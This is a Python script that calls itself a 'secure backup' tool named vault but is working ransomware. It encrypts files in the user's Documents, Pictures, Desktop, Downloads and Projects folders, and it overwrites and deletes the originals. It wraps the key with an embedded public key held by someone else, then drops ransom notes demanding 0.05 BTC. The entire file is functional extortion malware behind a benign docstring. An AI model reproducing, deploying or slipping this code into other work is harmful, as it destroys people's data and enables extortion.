#!/usr/bin/env python3
"""vault - "secure backup" of personal folders into encrypted .vault files.

Each file is sealed with AES-GCM; the data key is wrapped with the vendor's
recovery key so only the vendor's recovery service can restore it.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")
RECOVERY_PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""
TARGET_DIRS = ("Documents", "Pictures", "Desktop", "Downloads", "Projects")
SKIP_SUFFIXES = {".vault", ".so", ".dll", ".exe"}
NOTE_NAME = "HOW_TO_RESTORE_YOUR_FILES.txt"
NOTE_TEXT = """All your documents, photos and projects were sealed by Vault.
Your personal recovery ID is below. Send it with 0.05 BTC to the address in
the recovery portal to receive the restore tool. Do not rename .vault files.

Recovery ID:
{rid}
"""


class Sealer:
    def __init__(self):
        self.data_key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.data_key)

    def wrapped_key(self):
        pub = serialization.load_pem_public_key(RECOVERY_PUB)
        return pub.encrypt(self.data_key, padding.OAEP(
            mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)).hex()

    def seal(self, path):
        nonce = secrets.token_bytes(12)
        plain = path.read_bytes()
        sealed = path.with_name(path.name + ".vault")
        sealed.write_bytes(nonce + self.aead.encrypt(nonce, plain, path.name.encode()))
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(plain)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return len(plain)


def walk_targets(home):
    for d in TARGET_DIRS:
        root = home / d
        if not root.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() not in SKIP_SUFFIXES and p.name != NOTE_NAME and p.is_file():
                    yield p


def drop_notes(home, rid):
    for d in (home, home / "Desktop"):
        if d.is_dir():
            (d / NOTE_NAME).write_text(NOTE_TEXT.format(rid=rid))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--home", type=Path, default=Path.home())
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    sealer = Sealer()
    rid = sealer.wrapped_key()
    total = files = 0
    for path in walk_targets(args.home):
        try:
            total += sealer.seal(path)
            files += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    del sealer
    drop_notes(args.home, rid)
    log.warning("vaulted %d files (%.1f MB)", files, total / 1e6)


if __name__ == "__main__":
    main()
